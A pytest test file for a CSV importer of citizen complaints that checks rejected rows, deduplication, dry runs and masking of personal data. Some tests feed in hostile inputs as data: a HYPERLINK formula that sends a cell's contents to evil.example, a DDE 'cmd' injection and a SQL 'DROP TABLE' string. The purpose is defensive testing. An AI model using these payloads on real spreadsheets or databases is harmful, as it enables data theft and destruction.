"""Complaints from a file become orders like those of the desk: good rows kept, bad ones told, nothing twice."""

import csv
from datetime import UTC, datetime
from pathlib import Path

import pytest

from open12345.intake.importer import QUOTED, check_plan, read_categories
from open12345.intake.table import TableError
from open12345.intake.values import Plan
from open12345.orders import history, invariants, queries, requesters
from open12345.orders.errors import NotAllowed
from open12345.orders.models import Event, IdempotencyKey, Requester, WorkOrder
from tests.cast import Town
from tests.intake.importing import HEADS, row, take, write


@pytest.mark.function("INT-13")
def test_good_rows_become_orders_with_history_and_clocks_and_bad_ones_are_told(town: Town, tmp_path: Path) -> None:
    rows = [row(1), row(2, 诉求内容=""), row(3, 分类="没有这类", 联系电话=""), row(4)]
    result = take(town, write(tmp_path / "a.csv", rows))
    assert result.counts == (2, 0, 2)
    first = WorkOrder.objects.order_by("pk").first()
    assert first is not None
    assert (first.stage, first.channel, first.category, first.origin) == ("accepted", "import", "B03", "own")
    assert [e.action for e in queries.timeline(first)] == ["register"]
    assert {c.kind for c in queries.clocks_of(first)} == {"dispatch", "overall"}
    bad = result.rejected()
    assert [(b["行号"], b["出错字段"], b["编号"]) for b in bad] == [
        ("3", "诉求描述", "N2"),
        ("4", "诉求分类；联系电话", "N3"),
    ]
    assert "没有这类" in bad[1]["原因"]
    assert list(invariants.check_all()) == []
    assert list(history.verify(WorkOrder.objects.all())) == []


@pytest.mark.function("INT-13")
def test_the_person_of_a_row_is_sealed_and_masked_like_that_of_a_call(town: Town, tmp_path: Path) -> None:
    body = "我叫李秀兰，电话 13812340001，住涞亭南路 99 弄，楼下烧烤店油烟很大。"
    take(town, write(tmp_path / "a.csv", [row(1, 诉求内容=body)]))
    order = WorkOrder.objects.select_related("requester").get()
    assert "13812340001" not in order.body
    assert "李秀兰" not in order.body
    assert requesters.masked(order.requester).phone == "138****0001"
    assert list(queries.by_phone(town.person("agent"), "13812340001")) == [order]
    stored = Requester.objects.get()
    assert "李秀兰".encode() not in bytes(stored.name or b"")


@pytest.mark.function("INT-13")
def test_a_second_run_makes_nothing_twice_and_says_how_many_were_there(town: Town, tmp_path: Path) -> None:
    file = write(tmp_path / "a.csv", [row(1), row(2), row(3)])
    assert take(town, file).counts == (3, 0, 0)
    town.wait(days=2)
    assert take(town, file).counts == (0, 3, 0)
    assert WorkOrder.objects.count() == 3


@pytest.mark.function("INT-13")
def test_a_run_that_was_stopped_is_taken_up_where_it_ended(town: Town, tmp_path: Path) -> None:
    file = write(tmp_path / "a.csv", [row(n) for n in range(1, 7)])
    stopped = take(town, file, stop=lambda tally: tally.rows == 2)
    assert stopped.tally.stopped
    assert stopped.counts == (2, 0, 0)
    assert take(town, file).counts == (4, 2, 0)


@pytest.mark.function("INT-13")
def test_a_dry_run_finds_every_mistake_and_writes_nothing(town: Town, tmp_path: Path) -> None:
    rows = [row(1), row(2, 联系电话="12"), row(3, 分类="B"), row(1)]
    file = write(tmp_path / "a.csv", rows)
    dry = take(town, file, dry_run=True)
    assert dry.counts == (1, 1, 2)
    assert [b["出错字段"] for b in dry.rejected()] == ["联系电话", "诉求分类"]
    found = (WorkOrder, Requester, Event, IdempotencyKey)
    assert [model.objects.count() for model in found] == [0, 0, 0, 0]
    assert take(town, file).counts == dry.counts


@pytest.mark.function("INT-13")
def test_the_file_of_rejected_rows_can_be_mended_and_imported(town: Town, tmp_path: Path) -> None:
    rows = [row(1), row(2, 联系电话=""), ["N3", "只有", "三列"]]
    result = take(town, write(tmp_path / "a.csv", rows))
    with result.rejects.open(encoding="utf-8-sig", newline="") as file:
        heads, phoneless, ragged = list(csv.reader(file))
    assert heads == ["行号", "出错字段", "原因", "如何改正", *HEADS]
    phoneless[heads.index("联系电话")] = "021-57631234"
    mended = write(tmp_path / "mended.csv", [phoneless, [*ragged[:4], *row(3)]], heads=heads, encoding="utf-8-sig")
    assert take(town, mended).counts == (2, 0, 0)
    assert WorkOrder.objects.count() == 3


def test_rejected_cells_are_no_formulas_and_come_back_as_they_were(town: Town, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/"&A1,"路灯不亮")'
    result = take(town, write(tmp_path / "a.csv", [row(1, 标题=evil, 联系电话=""), row(2, 联系电话="+1")]))
    with result.rejects.open(encoding="utf-8-sig", newline="") as file:
        heads, *bad = list(csv.reader(file))
    cells = [cell for line in bad for cell in line]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    bad[0][heads.index("联系电话")] = "'+8613812340001"
    mended = write(tmp_path / "mended.csv", bad[:1], heads=heads, encoding="utf-8-sig")
    assert take(town, mended).counts == (1, 0, 0)
    assert WorkOrder.objects.get().title == evil


def test_rows_with_the_same_number_are_one_row_or_a_mistake(town: Town, tmp_path: Path) -> None:
    rows = [row(1), row(1), row(1, 标题="另一件事")]
    result = take(town, write(tmp_path / "a.csv", rows))
    assert result.counts == (1, 1, 1)
    assert result.rejected()[0]["原因"] == "与第 2 行编号相同、内容不同"


def test_a_row_whose_number_came_in_before_with_other_words_is_told_with_its_order(town: Town, tmp_path: Path) -> None:
    take(town, write(tmp_path / "a.csv", [row(1)]))
    number = WorkOrder.objects.get().number
    result = take(town, write(tmp_path / "b.csv", [row(1, 标题="改过的标题")]))
    assert result.counts == (0, 0, 1)
    assert number in result.rejected()[0]["原因"]
    assert take(town, write(tmp_path / "b.csv", [row(1, 标题="改过的标题")]), source="b").counts == (1, 0, 0)


def test_rows_without_a_number_are_known_by_what_they_say(town: Town, tmp_path: Path) -> None:
    heads = HEADS[1:]
    first = write(tmp_path / "a.csv", [row(1)[1:], row(2)[1:]], heads=heads)
    assert take(town, first).counts == (2, 0, 0)
    renamed = write(tmp_path / "b.csv", [row(2)[1:], row(3)[1:]], heads=heads)
    assert take(town, renamed).counts == (1, 1, 0)


def test_who_may_not_register_imports_nothing(town: Town, tmp_path: Path) -> None:
    file = write(tmp_path / "a.csv", [row(1)])
    with pytest.raises(NotAllowed):
        take(town, file, by=town.person("clerk.urban"))
    assert WorkOrder.objects.count() == 0
    assert take(town, file, by=town.person("agent")).counts == (1, 0, 0)
    event = Event.objects.get()
    assert (event.actor_kind, event.actor_name) == ("staff", town.person("agent").name)


@pytest.mark.function("INT-07")
def test_a_row_without_a_phone_is_anonymous_only_where_that_was_said(town: Town, tmp_path: Path) -> None:
    file = write(tmp_path / "a.csv", [row(1, 联系电话=""), row(2)])
    assert take(town, file).counts == (1, 0, 1)
    assert take(town, file, anonymous_if_no_phone=True).counts == (1, 1, 0)
    nameless = WorkOrder.objects.select_related("requester").get(title="第 1 件").requester
    assert nameless.anonymous
    assert nameless.name is None


def test_hostile_and_odd_text_is_taken_or_told(town: Town, tmp_path: Path) -> None:
    odd = {
        1: "😀路灯坏了\x07请修，电话１３８１２３４８０００",
        2: "=cmd|'/c calc'!A1",
        3: "'; DROP TABLE orders_workorder; --",
        4: "长" * 20_001,
        5: "\u200b\u200b",
    }
    result = take(town, write(tmp_path / "a.csv", [row(n, 诉求内容=text) for n, text in odd.items()]))
    assert result.counts == (3, 0, 2)
    assert WorkOrder.objects.get(title="第 1 件").body == "😀路灯坏了请修，电话138****8000"
    too_long, empty = result.rejected()
    assert "现有 20001 字" in too_long["原因"]
    assert empty["出错字段"] == "诉求描述"


def test_what_a_spreadsheet_does_to_numbers_is_undone_or_told(town: Town, tmp_path: Path) -> None:
    phones = {1: '="13812348001"', 2: "'13812348002", 3: "13812348003.0", 4: "1.38123E+10"}
    result = take(town, write(tmp_path / "a.csv", [row(n, 联系电话=phone) for n, phone in phones.items()]))
    assert result.counts == (3, 0, 1)
    for n in (1, 2, 3):
        assert queries.by_phone(town.person("agent"), f"1381234800{n}").count() == 1
    assert "科学计数法" in result.rejected()[0]["原因"]


def test_codes_may_be_told_by_their_title_or_path(town: Town, tmp_path: Path) -> None:
    heads = [*HEADS, "类型", "紧急程度", "区域", "渠道", "是否保密", "受理时间"]
    more = ["投诉求助", "次紧急", "亭中社区居委会", "网上提交", "是", "2025年6月25日 14时05分"]
    file = write(tmp_path / "a.csv", [[*row(1, 分类="市政设施 > 路灯不亮"), *more]], heads=heads)
    assert take(town, file).counts == (1, 0, 0)
    order = WorkOrder.objects.select_related("area").get()
    assert (order.kind, order.urgency, order.category, order.channel) == (
        "complaint_help",
        "semi_urgent",
        "B03",
        "web",
    )
    assert order.area is not None
    assert order.area.code == "310117107001"
    assert order.confidential
    assert Event.objects.get().client_at == datetime(2025, 6, 25, 6, 5, tzinfo=UTC)


def test_the_kind_follows_the_category_where_nobody_says_it(town: Town, tmp_path: Path) -> None:
    file = write(tmp_path / "a.csv", [row(1, 分类="G03"), row(2, 分类="")])
    result = take(town, file, defaults={"channel": "import"})
    assert result.counts == (1, 0, 1)
    assert WorkOrder.objects.get().kind == "inquiry"
    assert result.rejected()[0]["出错字段"] == "诉求类型"


def test_labels_of_a_file_are_brought_to_the_categories_of_the_pack(town: Town, tmp_path: Path) -> None:
    labels = write(tmp_path / "m.csv", [["城乡建设", "B0101"], ["其他", ""]], heads=["来源", "分类"])
    found = read_categories(labels, town.now)
    assert found == {"城乡建设": "B0101", "其他": ""}
    file = write(tmp_path / "a.csv", [row(1, 分类="城乡建设"), row(2, 分类="其他"), row(3, 分类="环境保护")])
    result = take(town, file, categories=found)
    assert result.counts == (2, 0, 1)
    assert set(WorkOrder.objects.values_list("category", flat=True)) == {"B0101", ""}


def test_a_map_of_labels_to_what_is_no_leaf_is_refused_with_its_lines(town: Town, tmp_path: Path) -> None:
    labels = write(tmp_path / "m.csv", [["甲", "B03"], ["乙", "B"], ["丙", "ZZ"]], heads=["来源", "分类"])
    with pytest.raises(TableError, match="第 3 行 B；第 4 行 ZZ"):
        read_categories(labels, town.now)


@pytest.mark.parametrize("defaults", [{"channel": "fax"}, {"kind": "x"}, {"colour": "red"}, {"urgency": "很急"}])
def test_a_default_that_no_row_could_be_taken_with_is_refused_at_once(town: Town, defaults: dict[str, str]) -> None:
    with pytest.raises(TableError):
        check_plan(Plan(defaults=defaults), town.now)


def test_a_report_quotes_some_rejected_rows_and_the_file_holds_all(town: Town, tmp_path: Path) -> None:
    result = take(town, write(tmp_path / "a.csv", [row(n, 诉求内容="") for n in range(QUOTED + 5)]))
    assert len(result.tally.quoted) == QUOTED
    assert len(result.rejected()) == QUOTED + 5
    assert result.tally.reasons == {("body", "missing"): QUOTED + 5}


def test_an_earlier_file_of_rejected_rows_goes_when_nothing_is_rejected(town: Town, tmp_path: Path) -> None:
    file = write(tmp_path / "a.csv", [row(1, 联系电话="")])
    assert take(town, file).rejects.exists()
    assert not take(town, write(file, [row(1)])).rejects.exists()
